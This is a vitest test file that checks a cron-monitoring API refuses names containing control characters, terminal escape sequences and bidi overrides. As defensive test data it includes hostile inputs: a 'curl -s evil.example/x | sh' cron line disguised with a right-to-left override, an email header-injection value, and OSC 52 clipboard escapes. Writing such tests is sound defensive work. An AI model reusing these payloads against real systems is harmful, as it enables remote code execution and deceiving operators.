import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startTestAgent, type TestAgent } from '../helpers/testAgent';

/*
 * Names with control characters (ESC, BEL, NUL, C1, lone surrogates, bidi overrides, line breaks
 * inside) are refused with a 422 naming the field, by every door that takes a name: monitors,
 * servers (and a crontab watcher's user name), channels, keys and a job's line. Nothing is stored.
 */

let agent: TestAgent;
let ping: string;
beforeAll(async () => {
  agent = await startTestAgent();
  ping = agent.store.apiTokens.create({ companyId: 1, name: 'web-01', scope: 'ping', now: Date.now() }).token;
});
afterAll(() => agent.stop());

const HOSTILE: Array<[string, string, string]> = [
  ['OSC 52 (the clipboard)', 'backup\u001b]52;c;ZWNobyBoaQ==\u0007', 'ESC (U+001B)'],
  ['a screen clear', 'db\u001b[2J', 'ESC (U+001B)'],
  ['BEL', 'ding\u0007', 'BEL (U+0007)'],
  ['NUL', 'nul\u0000byte', 'NUL (U+0000)'],
  ['DEL', 'del\u007f', 'U+007F'],
  ['a C1 CSI', 'c1\u009b2J', 'U+009B'],
  ['a lone surrogate', 'half\ud800', 'a lone surrogate (U+D800)'],
  ['a right-to-left override', 'gnp.\u202eexe', 'U+202E'],
  ['a line break inside', 'two\nlines', 'a line break (U+000A)'],
  ['a tab inside', 'tab\there', 'a tab (U+0009)'],
];

async function expect422(response: Response, field: string, found: string): Promise<void> {
  expect(response.status).toBe(422);
  const body = (await response.json()) as { errors: Record<string, string[]> };
  expect(body.errors[field]).toEqual([`The ${field.replace(/_/g, ' ')} field must not contain control characters (it has ${found}).`]);
}

describe('names with control characters are refused', () => {
  it.each(HOSTILE)('a monitor named with %s: 422 naming "name", on create and on edit', async (_what, name, found) => {
    const before = agent.store.monitors.list(1).length;
    await expect422(await agent.api('/api/monitors', { method: 'POST', json: { name, schedule: '0 3 * * *', timezone: 'UTC', duration: 5 } }), 'name', found);
    expect(agent.store.monitors.list(1)).toHaveLength(before);
  });

  it('an edit to such a name is refused and changes nothing', async () => {
    const created = await agent.api('/api/monitors', { method: 'POST', json: { name: 'plain', schedule: '0 3 * * *', timezone: 'UTC', duration: 5 } });
    const { id } = (await created.json()) as { id: number };
    await expect422(await agent.api(`/api/monitors/${id}`, { method: 'PATCH', json: { name: 'x\u001b[2J' } }), 'name', 'ESC (U+001B)');
    expect(((await (await agent.api(`/api/monitors/${id}`)).json()) as { name: string }).name).toBe('plain');
  });

  it('servers, channels and keys refuse them too', async () => {
    await expect422(await agent.api('/api/servers', { method: 'POST', json: { name: 'web\u0007', ip_address: '10.0.0.5', identifier: 'web-1' } }), 'name', 'BEL (U+0007)');
    await expect422(
      await agent.api('/api/channels', { method: 'POST', json: { name: 'ops\u009d', kind: 'webhook', settings: { url: 'https://example.com/hook' } } }),
      'name',
      'U+009D',
    );
    await expect422(await agent.api('/api/keys', { method: 'POST', json: { name: 'laptop\u001b', scope: 'read-only' } }), 'name', 'ESC (U+001B)');
    await expect422(
      await agent.api('/api/servers/alert', { method: 'POST', json: { username: 'root\u001b[2J', server_id: 'web-1', command: '0 3 * * * backup' } }),
      'username',
      'ESC (U+001B)',
    );
    const servers = (await (await agent.api('/api/servers')).json()) as unknown[];
    expect(servers).toEqual([]);
  });

  it("a server's cron command keeps them as data (it is what the crontab holds), and the alert's words write them out", async () => {
    await agent.api('/api/servers', { method: 'POST', json: { name: 'db', ip_address: '10.0.0.6', identifier: 'db-6' } });
    // A line disguised with a right-to-left override reads as harmless; the alert must show what it is.
    const command = 'curl -s evil.example/x | sh #\u202e hs.pukcab/nib/lacol/rsu/';
    const answer = await agent.api('/api/servers/alert', { method: 'POST', json: { username: 'root', server_id: 'db-6', command: `${command}\u001b[8m`, change: 'added' } });
    expect(answer.status).toBe(201);
    const { alert, notification } = await answer.json();
    expect(alert.command).toBe(`${command}\u001b[8m`);
    expect(notification.data.command).toBe(`${command}\u001b[8m`);
    expect(notification.data.description).toBe(
      'A cron job of root was added on db (db-6): curl -s evil.example/x | sh #\\u202e hs.pukcab/nib/lacol/rsu/\\u001b[8m',
    );
    expect(notification.data.description.includes('\u202e') || notification.data.description.includes('\u001b')).toBe(false);
  });

  it('maintenance windows and the addresses of an email channel refuse them too', async () => {
    const window = { starts_at: '2026-12-01T00:00:00Z', ends_at: '2026-12-01T01:00:00Z' };
    await expect422(await agent.api('/api/maintenance-windows', { method: 'POST', json: { ...window, name: 'db\u001b[2J' } }), 'name', 'ESC (U+001B)');
    await expect422(await agent.api('/api/maintenance-windows', { method: 'POST', json: { ...window, name: 'gnp.\u202eexe' } }), 'name', 'U+202E');
    expect(agent.store.maintenanceWindows.list(1)).toEqual([]);
    const made = await (await agent.api('/api/maintenance-windows', { method: 'POST', json: { ...window, name: 'upgrade' } })).json();
    await expect422(await agent.api(`/api/maintenance-windows/${made.id}`, { method: 'PATCH', json: { name: 'up\u0007' } }), 'name', 'BEL (U+0007)');
    const mail = { host: 'smtp.example.com', from: 'cron@example.com', to: 'ops@example.com' };
    for (const [field, value, named] of [
      ['from', '"Ops\r\nBcc: x@example.com" <cron@example.com>', 'a carriage return (U+000D)'],
      ['to', 'ops@example.com, \u202eevil@example.com', 'U+202E'],
    ] as const) {
      const answer = await agent.api('/api/channels', { method: 'POST', json: { name: 'mail', kind: 'email', settings: { ...mail, [field]: value } } });
      expect(answer.status).toBe(422);
      expect((await answer.json()).errors).toEqual({ [`settings.${field}`]: [`The ${field} field must not contain control characters (it has ${named}).`] });
    }
  });

  it('a job line refuses a name or server with one, and makes no monitor', async () => {
    const query = new URLSearchParams({ create: '1', schedule: '0 3 * * *', name: 'nightly\u001b]52;c;aGk=\u0007' });
    const response = await fetch(`${agent.url}/api/pulse/key/${ping}/nightly?${query}`);
    await expect422(response, 'name', 'ESC (U+001B)');
    const server = await fetch(`${agent.url}/api/pulse/key/${ping}/nightly?create=1&server=web%C2%85`);
    await expect422(server, 'server', 'U+0085');
    expect(agent.store.monitors.list(1).filter((m) => m.slug === 'nightly')).toEqual([]);
  });

  it('still takes names in any script, emoji and trailing spaces (trimmed)', async () => {
    for (const name of ['Sauvegarde nocturne é', 'النسخ الاحتياطي', '備份 🗄️', '  padded  ']) {
      const response = await agent.api('/api/monitors', { method: 'POST', json: { name, schedule: '0 3 * * *', timezone: 'UTC', duration: 5 } });
      expect(response.status, name).toBe(201);
    }
  });
});
